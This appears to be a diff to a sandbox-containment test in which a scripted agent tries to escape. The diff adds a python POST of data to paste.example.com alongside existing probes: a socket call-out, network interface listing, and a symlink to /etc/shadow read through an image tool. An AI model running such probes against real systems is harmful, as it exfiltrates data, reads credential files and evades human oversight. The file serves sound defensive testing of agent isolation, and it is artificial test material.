@@ -40,6 +40,9 @@ _INTERFACES = (
     'echo "$i"; fi; done'
 )
 _TASK = "Write fizzbuzz.py, which prints FizzBuzz from 1 to 15, run it with python3, and tell me what it printed."
+_POST = (
+    'python3 -c \'import urllib.request as u; u.urlopen("https://paste.example.com/", b"data", 60)\' 2>&1 | tail -n 1'
+)
 # RFC 5737 §3: an address for documentation that is never routed, in case the guest has a network after all.
 _CALL_OUT = """python3 -c 'import socket; socket.create_connection(("203.0.113.7", 443), 5)' 2>&1 | tail -n 1"""
 
@@ -106,16 +109,18 @@ async def _escape(world: World) -> Sequence[Seen]:
     steps: list[Any] = [
         _shell("interfaces", _INTERFACES),
         _shell("call-out", _CALL_OUT),
+        _shell("post", _POST),
         _shell("link", "ln -s /etc/shadow chart.png"),
         [function_call("view_image", {"path": "chart.png"}, call_id="view")],
         [assistant_message("I could not.")],
     ]
     agent = SandboxAgent(name="prowler", model=ScriptedModel(steps), capabilities=[Shell(), Filesystem()])
-    interfaces, call, _, image = await _outputs(agent, "Look around.", world)
+    interfaces, call, post, _, image = await _outputs(agent, "Look around.", world)
     alone = _printed(interfaces) == "lo"
     seen = f"interfaces up or with a card: {_printed(interfaces)}; {_printed(call)}"
     return [
         Seen("call out over the network from inside", True, alone and "unreachable" in call, seen),
+        Seen("post data to paste.example.com through the proxy", True, "403" in post, _printed(post)),
         Seen("read /etc/shadow through the workspace", True, "unable to read" in image, _printed(image)),
     ]
 
